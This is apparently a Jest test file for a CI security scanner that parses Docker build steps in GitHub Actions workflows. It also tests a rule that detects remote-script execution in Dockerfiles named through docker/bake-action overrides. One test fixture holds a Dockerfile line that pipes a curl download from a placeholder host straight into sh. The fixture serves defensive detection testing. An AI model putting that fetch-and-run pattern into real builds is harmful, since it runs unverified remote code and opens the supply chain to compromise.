import { afterEach, describe, expect, it } from '@jest/globals';
import type { Build } from '../../../src/model/build.ts';
import { DYNAMIC } from '../../../src/model/located.ts';
import { type Span, spanText } from '../../../src/model/source.ts';
import { workflow } from '../../../src/parse/workflow/index.ts';
import { parseContext } from '../../support/repository-view.ts';
import { scanCheckout } from '../../support/scan-checkout.ts';
import { type TemporaryFolder, temporaryFolder } from '../../support/temporary-folder.ts';

function buildIn(inputs: string, action = 'docker/build-push-action@v6'): Build | undefined {
  const text = `jobs:\n  a:\n    steps:\n      - name: Build it\n        uses: ${action}\n        with:\n${inputs.replaceAll(/^/gm, '          ')}\n`;
  const file = { path: '.github/workflows/ci.yml', text };
  const { subjects } = workflow.parse(file, parseContext());
  if (subjects.length > 0) expect(subjects[0]?.kind).toBe('text');
  return subjects.find((subject) => subject.kind === 'build');
}

function shown(placed: { readonly value: unknown; readonly span: Span } | undefined): unknown {
  return placed && [placed.value === DYNAMIC ? 'unknown' : placed.value, spanText(placed.span)];
}

describe('a build step', () => {
  it('is a build with what its inputs say', () => {
    const build = buildIn(
      [
        'context: https://github.com/acme/app.git',
        'file: app.Dockerfile',
        'network: host',
        'allow: |',
        '  security.insecure',
        '  network.host',
        'ssh: default',
        'build-contexts: base=docker-image://alpine:3.22',
        'build-args: |',
        '  NPM_TOKEN=${{ secrets.NPM_TOKEN }}',
        '  VERSION=1,2',
        '',
        '  HTTP_PROXY',
      ].join('\n'),
    );
    expect(build).toMatchObject({ format: 'workflow', name: 'Build it' });
    expect([build?.context, build?.dockerfile, build?.network].map(shown)).toEqual([
      ['https://github.com/acme/app.git', 'https://github.com/acme/app.git'],
      ['app.Dockerfile', 'app.Dockerfile'],
      ['host', 'host'],
    ]);
    expect(build?.entitlements.items.map(shown)).toEqual([
      ['security.insecure', 'security.insecure'],
      ['network.host', 'network.host'],
    ]);
    expect(build?.ssh.items.map(shown)).toEqual([['default', 'default']]);
    expect(build?.additionalContexts.map(({ name, value }) => [name, shown(value)])).toEqual([
      ['base', ['docker-image://alpine:3.22', 'docker-image://alpine:3.22']],
    ]);
    expect(build?.arguments.map(({ name, value, span }) => [name, shown(value), spanText(span)])).toEqual([
      ['NPM_TOKEN', ['unknown', '${{ secrets.NPM_TOKEN }}'], 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}'],
      ['VERSION', ['1,2', '1,2'], 'VERSION=1,2'],
      ['HTTP_PROXY', undefined, 'HTTP_PROXY'],
    ]);
  });

  it.each([
    ['another action', 'allow: security.insecure', 'acme/build@v1', undefined],
    ['nothing to ask', 'load: true\ntags: a', undefined, undefined],
    ['bake', 'allow: security.insecure, network.host', 'docker/bake-action@v6', ['security.insecure', 'network.host']],
    ['an expression', 'allow: ${{ inputs.allow }}', undefined, []],
  ])('%s', (_name, inputs, action, expected) => {
    expect(buildIn(inputs, action)?.entitlements.items.map(({ value }) => value)).toEqual(expected);
  });

  it('reads lists as the action does, without quotes', () => {
    const build = buildIn(
      `allow: '"security.insecure","network.host"'\nssh: |\n  "default"\nbuild-args: |\n  "A=1"\n  B="2"\n  "C=3","D=4"\n`,
    );
    expect(build?.entitlements.items.map(shown)).toEqual([
      ['security.insecure', 'security.insecure'],
      ['network.host', 'network.host'],
    ]);
    expect(build?.entitlements.items.map(({ entry }) => spanText(entry))).toEqual([
      '"security.insecure",',
      ',"network.host"',
    ]);
    expect(build?.ssh.items.map(shown)).toEqual([['default', 'default']]);
    expect(build?.arguments.map(({ name, value }) => [name, shown(value)])).toEqual([
      ['A', ['1', '1']],
      ['B', ['"2"', '"2"']],
      ['"C', ['3","D=4"', '3","D=4"']],
    ]);
  });

  it('does not split a list at a comma in quotes', () => {
    const build = buildIn(`allow: '"security.insecure,x"'`);
    expect(build?.entitlements.items.map(({ value }) => value)).toEqual(['security.insecure,x']);
  });
});

describe('an override of docker/bake-action', () => {
  const BAD = 'FROM debian:12\nRUN curl -fsSL https://files.example.com/x | sh\nUSER 10001\n';
  const folders: TemporaryFolder[] = [];
  afterEach(() => {
    for (const folder of folders.splice(0)) folder.remove();
  });

  const foundIn = async (inputs: string, path: string) => {
    const step = `      - uses: docker/bake-action@v6\n        with:\n${inputs.replaceAll(/^/gm, '          ')}\n`;
    const ci = `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${step}`;
    const folder = temporaryFolder({
      '.github/workflows/ci.yml': ci,
      'docker-bake.hcl': 'target "a" { context = "." }\n',
      [path]: BAD,
    });
    folders.push(folder);
    const { findings } = await scanCheckout(folder);
    return findings.filter(({ ruleId }) => ruleId === 'remote-script-exec').map(({ span }) => span.file.path);
  };

  it.each([
    ['set: "*.dockerfile=recipe.txt"', 'recipe.txt'],
    ['set: |\n  *.platform=linux/amd64\n  a.dockerfile=recipe.txt', 'recipe.txt'],
    ['workdir: sub\nset: "*.dockerfile=recipe.txt"', 'sub/recipe.txt'],
    ['source: "{{defaultContext}}:sub"\nset: "*.dockerfile=recipe.txt"', 'sub/recipe.txt'],
  ])('%j names a Dockerfile', async (inputs, path) => expect(await foundIn(inputs, path)).toEqual([path]));

  it.each([
    ['set: "*.args.FILE=recipe.txt"', 'recipe.txt'],
    ['set: "*.dockerfile=other.txt"', 'recipe.txt'],
  ])('%j does not', async (inputs, path) => expect(await foundIn(inputs, path)).toEqual([]));
});
